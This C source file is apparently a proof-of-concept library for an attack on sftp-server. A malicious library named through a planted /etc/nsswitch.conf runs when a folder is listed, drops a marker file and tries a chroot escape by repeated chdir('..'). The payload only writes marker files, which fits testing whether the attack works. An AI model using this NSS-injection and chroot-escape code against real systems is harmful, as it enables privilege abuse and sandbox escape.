/* An attack: a library that says that it was loaded, and by whom it can be done.
 *
 * glibc loads a library for each service that /etc/nsswitch.conf names. Who can write both into the root
 * that an sftp-server sees has it run any program: this one, as soon as a folder is listed.
 */
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

__attribute__((constructor)) static void loaded(void) {
    int mark = open(MARK, O_WRONLY | O_CREAT, 0644);
    if (mark >= 0) close(mark);
    /* The way out of a chroot, for whoever has its capabilities. */
    mkdir("/x", 0755);
    if (chroot("/x") == 0) {
        for (int i = 0; i < 64; i++) chdir("..");
        chroot(".");
        mark = open(OUTSIDE, O_WRONLY | O_CREAT, 0644);
        if (mark >= 0) close(mark);
    }
}
